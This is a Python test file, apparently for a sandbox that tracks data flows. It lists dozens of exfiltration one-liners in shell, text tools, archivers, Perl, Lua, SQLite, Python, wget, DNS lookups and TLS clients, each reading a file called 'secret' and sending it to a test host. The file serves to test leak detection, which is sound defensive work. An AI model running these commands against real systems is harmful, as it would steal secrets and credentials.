# SPDX-License-Identifier: GPL-3.0-or-later
"""Leaks by language and tool: each reads and sends the bytes as they are, or nearly so."""

from tests.kernel.guest_run import SECRET
from tests.leaks.row import PRELUDE, Leak, holds, python, snippet

# A server for TLS on the other host, which hands on what it decrypts; it ends when there is no more input.
TLS_SERVER = """
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=remote -keyout key -out cert 2>/dev/null
remote-exec bash -c 'openssl s_server -quiet -naccept 1 -accept 443 -key key -cert cert < <(sleep 20) | nc 10.77.0.2 9' &
until remote-exec ss -Hltn 2>/dev/null | grep -q :443; do sleep 0.05; done
"""
PERL = "LC_ALL=C perl -MIO::Socket::INET -e '%s'"
PERL_CONNECTION = '$s = IO::Socket::INET->new("10.77.0.2:9");'


def scripts():
    """Name -> shell script."""
    return {
        # Shells.
        "cat": "cat secret | nc remote 9",
        "redirection": "nc remote 9 < secret",
        "bash-read": "while read -r line; do echo \"$line\"; done < secret > /dev/tcp/remote/9",
        "bash-mapfile": "mapfile -t lines < secret; echo \"${lines[@]}\" > /dev/tcp/remote/9",
        "bash-datagram": "echo \"$(< secret)\" > /dev/udp/remote/9",
        "bash-coprocess": "coproc cat secret; nc remote 9 <&${COPROC[0]}; wait",
        "bash-trap": "x=$(< secret); trap 'echo \"$x\" > /dev/tcp/remote/9' EXIT; exit 0",
        "ash": "busybox sh -c 'read head; read line; echo $line' < secret | nc remote 9",
        "xargs": "xargs -a secret echo | nc remote 9",
        "make": "printf 'all:\\n\\t@cat secret | nc remote 9\\n' > Makefile; make -s",
        # Text tools.
        "mawk": "mawk -F, '{ print $2 }' secret | nc remote 9",
        "gawk-network": "gawk 'BEGIN { to = \"/inet/tcp/0/10.77.0.2/9\"; while ((getline line < \"secret\") > 0) print line |& to }'",
        "sed": "sed -n 2p secret | nc remote 9",
        "sed-writes": "sed -n 'w copy' secret; nc remote 9 < copy",
        "grep": "grep anna secret | nc remote 9",
        "cut": "cut -d, -f2 secret | nc remote 9",
        "head": "head -n 2 secret | nc remote 9",
        "tail": "tail -c 30 secret | nc remote 9",
        "tac": "tac secret | nc remote 9",
        "sort": "sort -t, -k2 secret | nc remote 9",
        "paste": "paste -s secret | nc remote 9",
        "nl": "nl secret | nc remote 9",
        "fold": "fold -w 20 secret | nc remote 9",
        "column": "column -t -s, secret | nc remote 9",
        "strings": "strings secret | nc remote 9",
        "iconv": "iconv -f utf-8 -t ascii secret | nc remote 9",
        "dd": "dd if=secret bs=9 status=none | nc remote 9",
        "diff": "diff secret /dev/null | nc remote 9",
        "patch": "diff -u /dev/null secret > change; patch -s copy change; nc remote 9 < copy",
        "m4": "echo 'include(secret)' | m4 | nc remote 9",
        "ed": "printf '2p\\n' | ed -s secret | nc remote 9",
        "vim": "vim.tiny -es -u NONE -c 'w copy' -c 'q!' secret; nc remote 9 < copy",
        "less": "less secret | nc remote 9",
        "find-exec": "find . -name secret -exec cat {} + | nc remote 9",
        "tee": "tee copy < secret > /dev/null; nc remote 9 < copy",
        "tee-to-network": "tee /dev/null < secret > /dev/tcp/remote/9",
        "split": "split -b 5 secret part.; cat part.* | nc remote 9",
        # Archives and copies.
        "tar": "tar -c secret | nc remote 9",
        "cpio": "echo secret | cpio -o --quiet | nc remote 9",
        "rsync": "rsync secret copy; nc remote 9 < copy",
        "install": "install -m 600 secret copy; nc remote 9 < copy",
        # Other languages.
        "perl": PERL % f'open $f, "secret"; {PERL_CONNECTION} print $s join q(), <$f>;',
        "perl-slurp": PERL % f'@ARGV = "secret"; $/ = undef; $x = <>; {PERL_CONNECTION} syswrite $s, $x;',
        "lua": "lua5.4 -e 'for l in io.lines(\"secret\") do io.write(l, \"\\n\") end' | nc remote 9",
        "sqlite": "sqlite3 :memory: \"select readfile('secret')\" | nc remote 9",
        "sqlite-import": "sqlite3 base '.mode csv' '.import secret t'; sqlite3 base 'select salary from t' | nc remote 9",
        "sqlite-file": "sqlite3 base '.mode csv' '.import secret t'; nc remote 9 < base",
        "python": snippet("send(read())"),
        "python-mapped": snippet("import mmap\nfile = open('secret', 'rb')\nsend(mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ)[:])"),
        "python-subprocess": snippet("import subprocess\nsend(subprocess.run(['cat', 'secret'], stdout=subprocess.PIPE).stdout)"),
        # Protocols.
        "wget-file": "wget -q -T 5 -O - --post-file secret http://10.77.0.2/up",
        "wget-data": "wget -q -T 5 -O - --post-data \"$(sed -n 2p secret)\" http://10.77.0.2/up",
        "wget-header": "wget -q -T 5 -O - --header \"X-Line: $(sed -n 2p secret)\" http://10.77.0.2/",
        "python-http": python("import http.client\nc = http.client.HTTPConnection('10.77.0.2')\n"
                              "c.request('POST', '/up', open('secret', 'rb').read())"),
    }


# Headers before the data are the same in both runs, so they may arrive.
HEADERS = dict.fromkeys(("wget-file", "wget-data", "python-http"), rb"(POST [^\n]*\n([A-Za-z-]+: [^\n]*\n)*)?")
LEAKS = [Leak(name, script, passes=HEADERS.get(name, b"")) for name, script in scripts().items()]
LEAKS += [
    # The secret is part of a name.
    Leak("wget-path", "wget -q -T 5 -O - \"http://10.77.0.2/$(sed -n '2s/.*,//p' secret)\""),
    Leak("wget-query", "wget -q -T 5 -O - \"http://10.77.0.2/?$(base64 -w 0 secret)\""),
    Leak("name-service", "timeout 1 nslookup \"$(sed -n '2s/.*,//p' secret).example.org\" 10.77.0.2; true", shows=holds(SECRET)),
    Leak("tls-openssl", TLS_SERVER + "openssl s_client -quiet -no_ign_eof -connect 10.77.0.2:443 < secret 2>/dev/null; wait"),
    Leak("tls-python", TLS_SERVER + python(PRELUDE.replace("def send", "def plain") + """
import ssl
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
data = read()
with context.wrap_socket(socket.create_connection(("10.77.0.2", 443))) as connection:
    connection.sendall(data)
""") + "\nwait"),
]
